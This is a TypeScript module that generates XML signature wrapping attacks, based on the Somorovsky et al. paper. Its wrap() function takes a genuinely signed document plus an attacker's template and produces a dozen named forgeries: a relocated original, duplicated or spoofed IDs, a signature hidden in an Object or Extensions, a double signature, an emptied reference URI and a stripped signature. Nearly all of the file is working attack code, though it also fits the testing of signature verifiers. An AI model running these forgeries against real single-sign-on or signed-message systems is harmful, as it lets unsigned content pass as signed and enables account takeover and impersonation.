/**
 * XML signature wrapping, after Somorovsky et al. (USENIX Security 2012): the signed element is moved to where nobody looks, and another
 * one, which nobody signed, is put where everybody does.
 */

const DSIG = /<(\w+:)?Signature[ >].*<\/\1Signature>/s;

/** What the attacker has: a document with a signature in it, and a document of their own with a place for things in it. */
export interface Loot {
  readonly signed: string;
  /** `id`: of its root; `inside`: what stands in it beside its own content. */
  readonly evil: (id: string, inside: string) => string;
  /** The ID of the root that was signed. */
  readonly id: string;
}

type Wrap = (loot: Loot, signature: string, bare: string) => string;

const hide = (signature: string, bare: string) => {
  const end = signature.lastIndexOf('</');
  const prefix = /^<(\w+:)?/.exec(signature)?.[1] ?? '';
  return `${signature.slice(0, end)}<${prefix}Object>${bare}</${prefix}Object>${signature.slice(end)}`;
};

const WRAPPINGS: Readonly<Record<string, Wrap>> = {
  'the original in an evil root, with its signature': ({ signed, evil }) => evil('_evil', signed),
  'the original beside its signature in an evil root': ({ evil }, signature, bare) => evil('_evil', signature + bare),
  'the same, and the evil root has the same ID': ({ evil, id }, signature, bare) => evil(id, signature + bare),
  'the original in an Object of its signature': ({ evil }, signature, bare) => evil('_evil', hide(signature, bare)),
  'the same, with the same ID': ({ evil, id }, signature, bare) => evil(id, hide(signature, bare)),
  'the original in an extension before the signature': ({ evil }, signature, bare) =>
    evil('_evil', `<Extensions>${bare}</Extensions>${signature}`),
  'the original in an extension after the signature': ({ evil }, signature, bare) =>
    evil('_evil', `${signature}<Extensions>${bare}</Extensions>`),
  'the same, with the same ID after it': ({ evil, id }, signature, bare) =>
    evil(id, `${signature}<Extensions>${bare}</Extensions>`),
  'another spelling of the ID leads to the original': ({ evil, id }, signature, bare) =>
    evil(`_evil" Id="${id}`, signature + bare),
  'two signatures': ({ evil, id }, signature, bare) => evil(id, signature + signature + bare),
  'a reference to the whole document': ({ signed, id }) => signed.replace(`URI="#${id}"`, 'URI=""'),
  'no signature any more': ({ evil }) => evil('_evil', ''),
};

/** Every way to wrap, by its name, with what comes of it. */
export function wrap(loot: Loot): readonly (readonly [name: string, document: string])[] {
  const signature = DSIG.exec(loot.signed)?.[0];
  if (!signature) throw new Error('there is no signature in the document');
  const bare = loot.signed.replace(DSIG, '').replace(/^<\?xml[^>]*>/, '');
  return Object.entries(WRAPPINGS).map(([name, how]) => [name, how(loot, signature, bare)]);
}
